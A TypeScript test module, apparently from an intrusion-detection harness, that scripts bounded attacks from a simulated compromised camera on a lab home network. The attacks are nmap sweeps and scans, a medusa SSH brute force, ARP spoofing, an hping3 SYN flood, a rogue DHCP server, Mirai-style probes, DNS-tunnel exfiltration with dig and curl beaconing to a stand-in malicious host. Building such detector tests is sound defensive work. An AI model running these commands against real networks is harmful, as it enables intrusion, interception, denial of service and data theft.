// What a broken device does to the small home: each attack is a real program, bounded in packets and time.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Device, HOME_RANGE, NETWORK } from './home.ts';
import { type Household, pause } from './household.ts';
import { BAD_SITE, rogueDhcpWords } from './services.ts';

/** hping3 waits a second for an answer that never comes. */
const MIRAI_AT_ONCE = 12;

export interface Attack {
  /** Kind of the alert that it must raise. */
  readonly kind: string;
  /** What is run, in words for people. */
  readonly title: string;
  readonly source: (house: Household) => Device;
  /** The victim's address, or the whole network's. */
  readonly target: (house: Household) => string;
  readonly run: (house: Household) => Promise<void>;
}

const camera = (house: Household): Device => house.camera;
const nasAddress = (house: Household): string => house.nas.ip;
const everybody = (): string => HOME_RANGE;
const beyond = (): string => `${NETWORK}.128/25`;

/** Runs a program of the attacker; a wrong status means that there was no attack. */
async function attackWith(house: Household, words: readonly string[], timeoutMs = 60_000): Promise<void> {
  const run = await house.home.run(house.camera, words, { timeoutMs });
  if (run.status !== 0) throw new Error(`${words.join(' ')}: exit ${run.status}: ${run.stderr}`);
}

/** Runs a program of the attacker for some seconds, then interrupts it as Ctrl-C would. */
async function attackFor(house: Household, seconds: number, words: readonly string[], grace = 500): Promise<void> {
  const child = house.home.spawn(house.camera, words, { stdio: 'ignore' });
  const ended = new Promise((resolve) => child.once('close', resolve));
  await pause(seconds * 1000);
  child.kill('SIGINT');
  const timer = setTimeout(() => child.kill('SIGKILL'), grace);
  await ended;
  clearTimeout(timer);
}

export const hostSweep: Attack = {
  kind: 'host-sweep',
  title: 'nmap -sn: asks by ARP for every address of the network',
  source: camera,
  target: everybody,
  run: (house) => attackWith(house, ['nmap', '-n', '-sn', '-T4', '--max-retries', '1', everybody()]),
};

export const portScan: Attack = {
  kind: 'port-scan',
  title: 'nmap -sS: SYN scan of the 300 best known ports',
  source: camera,
  target: nasAddress,
  run: (house) => attackWith(house, ['nmap', '-n', '-Pn', '-sS', '-T4', '--top-ports', '300', house.nas.ip]),
};

export const bruteForce: Attack = {
  kind: 'brute-force',
  title: 'medusa: 48 passwords tried on SSH',
  source: camera,
  target: nasAddress,
  run: async (house) => {
    const file = join(house.home.folder, 'passwords');
    writeFileSync(file, Array.from({ length: 48 }, (_, i) => `admin${1000 + i * 37}`).join('\n'));
    await attackWith(house, ['medusa', '-h', house.nas.ip, '-u', 'admin', '-P', file, '-M', 'ssh', '-t', '4']);
  },
};

export const arpSpoof: Attack = {
  kind: 'arp-spoof',
  title: 'arpspoof: tells the phone that it is the router',
  source: camera,
  target: (house) => house.phone.ip,
  run: (house) => attackFor(house, 12, ['arpspoof', '-i', 'eth0', '-t', house.phone.ip, house.home.router.ip], 8000),
};

export const synFlood: Attack = {
  kind: 'flood',
  title: 'hping3: 1,200 SYN packets to the web server within two seconds',
  source: camera,
  target: nasAddress,
  run: async (house) => {
    // hping3 exits 1 when it gets no answer to some; the packets were sent all the same.
    await house.home.run(house.camera, ['hping3', '-q', '-S', '-p', '80', '-i', 'u1000', '-c', '1200', house.nas.ip]);
  },
};

export const rogueDhcp: Attack = {
  kind: 'rogue-dhcp',
  title: 'dnsmasq: a second DHCP server answers the laptop before the router does',
  source: camera,
  target: (house) => house.laptop.ip,
  run: async (house) => {
    const server = house.home.serve(house.camera, rogueDhcpWords(house.home, house.camera));
    await pause(1000);
    const words = ['busybox', 'udhcpc', '-i', 'eth0', '-f', '-q', '-n', '-t', '3', '-T', '1', '-s', '/bin/true'];
    await house.home.run(house.laptop, [...words, '-x', `hostname:${house.laptop.name}`]);
    server.kill('SIGTERM');
  },
};

export const miraiSyn: Attack = {
  kind: 'mirai-syn',
  title: 'hping3: SYN packets to Telnet whose sequence number is the address they go to, as Mirai sends them',
  source: camera,
  target: beyond,
  run: async (house) => {
    for (let host = 130; host < 190; host += MIRAI_AT_ONCE) {
      await Promise.all(Array.from({ length: MIRAI_AT_ONCE }, (_, i) => miraiProbe(house, host + i)));
    }
  },
};

function miraiProbe(house: Household, lastOctet: number): Promise<unknown> {
  const address = `${NETWORK}.${lastOctet}`;
  const sequence = address.split('.').reduce((number, octet) => number * 256 + Number(octet), 0);
  const words = ['hping3', '-q', '-S', '-p', '23', '-M', String(sequence), '-c', '1', address];
  return house.home.run(house.camera, words);
}

export const dnsTunnel: Attack = {
  kind: 'dns-tunnel',
  title: `dig: a file leaves in 150 long names under ${BAD_SITE}`,
  source: camera,
  target: (house) => house.home.router.ip,
  run: async (house) => {
    const file = join(house.home.folder, 'tunnel');
    // Pseudo-random base32 text, as dns2tcp and iodine make it, the same at every recording.
    let state = 77;
    const letters = (count: number): string =>
      Array.from({ length: count }, () => {
        state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
        return 'abcdefghijklmnopqrstuvwxyz234567'[(state >>> 12) % 32];
      }).join('');
    const names = Array.from({ length: 150 }, () => `${letters(40)}.${letters(40)}.${BAD_SITE} TXT`);
    writeFileSync(file, `${names.join('\n')}\n`);
    await attackWith(house, ['dig', '+tries=1', '+time=1', '-f', file]);
  },
};

export const beacon: Attack = {
  kind: 'beacon',
  title: `curl: a knock at ${BAD_SITE} every two seconds`,
  source: camera,
  target: (house) => house.cloud.ip,
  run: async (house) => {
    for (let i = 0; i < 60; i++) {
      await house.home.run(house.camera, ['curl', '-s', '-o', '/dev/null', '-A', '', `http://${BAD_SITE}/?${i}`]);
      await pause(2000);
    }
  },
};
